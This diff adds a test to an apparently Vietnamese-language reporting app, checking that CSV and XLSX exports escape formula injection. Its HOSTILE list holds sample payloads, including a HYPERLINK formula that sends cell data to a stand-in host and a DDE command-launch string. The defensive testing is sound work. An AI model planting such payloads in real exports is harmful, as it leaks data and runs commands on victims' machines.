@@ -109,3 +109,30 @@ def test_monitor_and_alerts_once_across_servers(api, engine, clock, app, redis_c
     clock.advance(minutes=5)
     counter = next(c for c in api.get("/monitor", admin).get_json()["counters"] if c["number"] == 1)
     assert counter["status"] == "paused" and counter["pause_reason"] == "Họp" and counter["paused_seconds"] == 300
+
+
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_exports_cannot_carry_formulas(small_day):
+    """A name that starts with = + - @ (a field or an officer named by an admin, later by
+    live administration) is written as text: a spreadsheet never runs it."""
+    from server.report_export import to_csv, to_xlsx
+
+    day, api, admin = small_day
+    report = api.get("/reports?period=day&date=2026-11-23&group=field", admin).get_json()
+    names = HOSTILE[:len(report["rows"])]
+    assert len(names) >= 3
+    for row, name in zip(report["rows"], names):
+        row["name"] = name
+    report["site"]["name"] = "=1+1"
+    lines = list(csv.reader(io.StringIO(to_csv(report, "vi").decode("utf-8-sig"))))
+    assert lines[0][0] == "'=1+1"
+    assert [line[0] for line in lines[2:2 + len(names)]] == ["'" + n for n in names]
+    assert int(lines[2][1]) == report["rows"][0]["issued"]  # numbers stay numbers
+    book = load_workbook(io.BytesIO(to_xlsx(report, "vi")))
+    for sheet in book.worksheets[:2]:
+        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], sheet.title
+        texts = {c.value for c in cells}
+        assert "=1+1" in texts and set(names) <= texts
